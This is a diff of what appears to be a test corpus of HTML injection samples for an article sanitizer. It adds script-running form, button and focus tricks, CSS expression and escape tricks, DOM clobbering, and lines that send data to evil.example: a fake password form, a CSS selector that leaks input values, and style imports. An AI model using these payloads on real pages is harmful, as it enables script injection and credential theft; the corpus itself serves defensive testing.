@@ -1,4 +1,5 @@
-import type { Attack } from './attack.ts';
+/** One way to make a page run `hit()`, or to harm it otherwise, hidden in the body of an article. */
+export type Attack = readonly [technique: string, html: string];
 
 /** Elements that run, load or embed something by themselves, and ways to write their names. */
 export const ELEMENTS: readonly Attack[] = [
@@ -135,4 +136,56 @@ export const HANDLERS: readonly Attack[] = [
   ['behaviour', '<p style="behavior:url(#default#time2)" onbegin="hit()">x</p>'],
   ['nonce', '<p nonce="abc">x</p><script nonce="abc">hit()</script>'],
   ['autofocus with a key', '<a href="#" accesskey="x" onclick="hit()">x</a>'],
+];
+
+/** What needs no script of its own: forms, styles, and names that the page's scripts look up. */
+export const PAGE: readonly Attack[] = [
+  [
+    'form that sends elsewhere',
+    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
+  ],
+  ['form that runs', '<form action="javascript:hit()"><input type="submit"></form>'],
+  ['forms in forms', '<form><form action="javascript:hit()"><button>x</button></form></form>'],
+  ['form closed by another', '<form id="x"></form><button form="x" formaction="javascript:hit()">x</button>'],
+  ['button that runs', '<button formaction="javascript:hit()">x</button>'],
+  ['button that commands', '<button commandfor="menu" command="show-modal">x</button>'],
+  [
+    'button that opens a popover',
+    '<button popovertarget="x">x</button><div id="x" popover onbeforetoggle="hit()">x</div>',
+  ],
+  ['image as a button', '<input type="image" src="x" onerror="hit()">'],
+  ['field that takes the focus', '<input autofocus onfocus="hit()">'],
+  ['field that is filled in', '<input name="cc" autocomplete="cc-number" oninput="hit()">'],
+  ['hidden field with a key', '<input type="hidden" accesskey="x" onclick="hit()">'],
+  ['select that takes the focus', '<select autofocus onfocus="hit()"><option>x</select>'],
+  ['text area that takes the focus', '<textarea autofocus onfocus="hit()"></textarea>'],
+  ['output', '<output form="x" onclick="hit()">x</output>'],
+  ['style element', '<style>body{background:url(javascript:hit())}</style>'],
+  ['style import', '<style>@import "https://evil.example/x.css";</style>'],
+  ['style with an expression', '<p style="width:expression(hit())">x</p>'],
+  ['style with a binding', '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>'],
+  ['style with a behaviour', '<p style="behavior:url(x.htc)">x</p>'],
+  ['style with an escaped address', '<p style="background:\\75rl(javascript:hit())">x</p>'],
+  ['style with a comment', '<p style="wid/**/th:expr/**/ession(hit())">x</p>'],
+  ['style that reads the page', '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>'],
+  ['style that covers the page', '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>'],
+  ['style through the keyword', '<p style="@import \'https://evil.example/x.css\'">x</p>'],
+  ['font that reads the page', '<style>@font-face{font-family:x;src:url(https://evil.example/x)}</style>'],
+  ['clobbered form', '<form id="document" name="body"><input name="cookie"></form>'],
+  ['clobbered image', '<img name="currentScript" src="x">'],
+  ['clobbered name', '<a id="config" href="https://evil.example/x.js">x</a>'],
+  ['clobbered twice', '<a id="x"></a><a id="x" name="y" href="javascript:hit()">x</a>'],
+  ['clobbered id of the page', '<div id="main">x</div><p id="menu">y</p>'],
+  ['clobbered router', '<p id="__reactRouterContext">x</p><img id="__reactRouterManifest">'],
+  ['clobbered prototype', '<p id="__proto__">x</p><p id="constructor">y</p>'],
+  ['clobbered frame', '<iframe name="top" srcdoc="x"></iframe>'],
+  ['id with markup', '<p id="x&quot;><img src=x onerror=hit()>">x</p>'],
+  ['id with the prefix', '<p id="s-s-s-x">x</p>'],
+  ['class with markup', '<p class="x&quot;><img src=x onerror=hit()>">x</p>'],
+  ['alternative text with markup', '<img alt="&quot;><img src=x onerror=hit()>" src="x">'],
+  ['microdata', '<div itemscope itemtype="https://schema.org/Person" itemprop="x">x</div>'],
+  ['roles that lie', '<div role="alert" aria-live="assertive" tabindex="0" aria-label="x">x</div>'],
+  ['hidden text', '<p hidden inert translate="no">x</p>'],
+  ['direction', '<bdo dir="rtl">x</bdo><p dir="rtl" lang="xx">x</p>'],
+  ['track of a link', '<a href="https://example.com" ping="https://evil.example" referrerpolicy="unsafe-url">x</a>'],
 ];
